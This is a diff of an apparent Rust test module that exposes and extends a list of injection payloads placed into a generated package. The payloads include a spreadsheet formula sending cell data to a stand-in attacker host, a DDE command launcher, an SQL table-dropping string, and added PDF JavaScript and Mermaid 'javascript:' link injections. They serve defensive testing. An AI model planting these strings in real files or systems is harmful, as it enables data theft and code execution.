@@ -8,7 +8,7 @@ use crate::cli::diplograph;
 use crate::package_folder::Folder;
 
 /// Texts that some reader would run, follow or take for a part of its own.
-const PAYLOADS: [&str; 10] = [
+pub const PAYLOADS: [&str; 12] = [
     "=HYPERLINK(\"https://evil.example/?\"&A1)",
     "+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd",
@@ -19,6 +19,8 @@ const PAYLOADS: [&str; 10] = [
     "![x](https://evil.example/pixel) <b>b</b>",
     "a\\;b,c:d%%{init: {}}%%",
     "'; DROP TABLE events; --",
+    "x)>>/OpenAction<</S/JavaScript/JS(app.alert(1))>>endobj%",
+    "click e href \"javascript:alert(1)\" ; %%{init: {'securityLevel': 'loose'}}%%",
 ];
 
 /// Adds a row to a table: these values, and in every column that tells in words what the text says.
@@ -35,7 +37,7 @@ fn add(folder: &Folder, table: &str, values: &[(&str, &str)], text: &str) {
 }
 
 /// Makes a package in which each text stands wherever a text may.
-fn package(payloads: &[&str]) -> Folder {
+pub fn package(payloads: &[&str]) -> Folder {
     let folder = Folder::tiny();
     for (number, text) in payloads.iter().enumerate() {
         let id = |kind: &str| format!("{kind}-x{number}");
